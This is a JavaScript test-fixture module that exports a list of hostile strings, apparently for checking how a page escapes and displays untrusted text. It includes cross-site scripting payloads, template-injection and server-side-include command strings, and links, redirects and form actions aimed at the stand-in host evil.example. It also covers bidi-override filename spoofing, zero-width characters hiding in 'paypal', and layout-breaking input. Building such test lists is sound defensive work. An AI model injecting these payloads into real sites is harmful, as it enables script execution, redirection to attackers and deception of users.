// Texts that try to run as a script, to reorder or hide other text, or to break the layout.
const SCRIPTS = ["<script>window.ran = 1</script>", "<img src=x onerror='window.ran = 1'>",
  "<svg onload=window.ran=1>", "<svg><script>window.ran=1</script></svg>",
  "\"><script>window.ran=1</script>", "'><img src=x onerror=window.ran=1>",
  "</title><script>window.ran=1</script>", "</textarea><script>window.ran=1</script>",
  "</style><script>window.ran=1</script>", "--><script>window.ran=1</script>",
  "]]><script>window.ran=1</script>", "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
  "<a href='javascript:window.ran=1'>x</a>", "javascript:window.ran=1", "data:text/html,<script>1",
  "<details open ontoggle=window.ran=1>", "<body onload=window.ran=1>", "<math><mi xlink:href='javascript:1'>",
  "<input autofocus onfocus=window.ran=1>", "<style>*{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>", "<form action=//evil.example><button>x", "<template><script>1</script>",
  "{{constructor.constructor('window.ran=1')()}}", "${window.ran=1}", "`${window.ran=1}`",
  "<!--#exec cmd='id'-->", "<?php echo 1 ?>", "<%= 1 %>", "&lt;script&gt;window.ran=1&lt;/script&gt;",
  "&#60;script&#62;", "\\u003cscript\\u003ewindow.ran=1", "\\x3cscript\\x3e", "<scr\u0000ipt>window.ran=1</scr\u0000ipt>",
  "<object data=javascript:window.ran=1>", "<embed src=javascript:window.ran=1>", "__proto__", "constructor"];
const BIDI = ["\u061C", "\u200E", "\u200F", "\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066",
  "\u2067", "\u2068", "\u2069"].map((mark) => `abc ${mark}gpj.exe${mark} def`);
const HIDDEN = ["\u00AD", "\u034F", "\u115F", "\u1160", "\u17B4", "\u180E", "\u200B", "\u200C", "\u200D",
  "\u2060", "\u2061", "\u2064", "\u206A", "\u206F", "\u3164", "\uFEFF", "\uFFA0", "\uFFF9", "\uFFFB",
  "\u{E0001}", "\u{E0041}", "\u{E0100}"].map((mark) => `pay${mark}pal${mark}`);
const CONTROLS = [...Array.from({ length: 32 }, (_, code) => code), 0x7f,
  ...Array.from({ length: 32 }, (_, code) => 0x80 + code)]
  .map((code) => `a${String.fromCharCode(code)}b`);
const LAYOUT = ["W".repeat(3000), "\u{1F600}".repeat(1500), "a\u0301".repeat(500),
  "Z" + "\u0335\u0327\u0301\u0489".repeat(200), "\uFDFD".repeat(200), "\u{12031}".repeat(100),
  "\n".repeat(500) + "end", "\r\n\t\v\f\u0085\u2028\u2029end", " ".repeat(2000) + "end",
  "\u2800".repeat(300) + "end", "\u00A0".repeat(400), "line\u2028line", "\uD800 alone", "\uDC00",
  "\uFFFE\uFFFF", "\u{10FFFF}", "\u05D0".repeat(400), "\u0639".repeat(400), "\u0E01\u0E49".repeat(300),
  "\u202E".repeat(500) + "x", "\u2066".repeat(200) + "x", "..".repeat(600), "-".repeat(900),
  "https://example.org/" + "a".repeat(800), "@" + "x".repeat(500), "#" + "x".repeat(500), "", " ",
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}".repeat(60), "%00%0a%3Cscript%3E", "..%2f..%2f", "null", "NaN",
  "undefined", "true", "-1", "1e9", "[object Object]", "\\", "\"", "'", "`", "</bdi>", "<bdi>", "</li></ol>",
  "</p></main></body></html>", "\u202Dabc\u202C".repeat(100), "\u1100".repeat(300), "\u0DDF".repeat(100),
  "\uFF1Cscript\uFF1E", "\u2039script\u203A", "\u00BCscript\u00BE", "\u0300".repeat(400), "\u20DD".repeat(50),
  "\u{1D173}hidden\u{1D17A}", "\uFFFC object", "a\u20E3".repeat(60), "\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}", "\u202F".repeat(99), "\u3000x\u3000",
  "\t\tx", "\uFE0F".repeat(99), "\u{1F1E9}".repeat(99)];

export const HOSTILE = [...SCRIPTS, ...BIDI, ...HIDDEN, ...CONTROLS, ...LAYOUT];
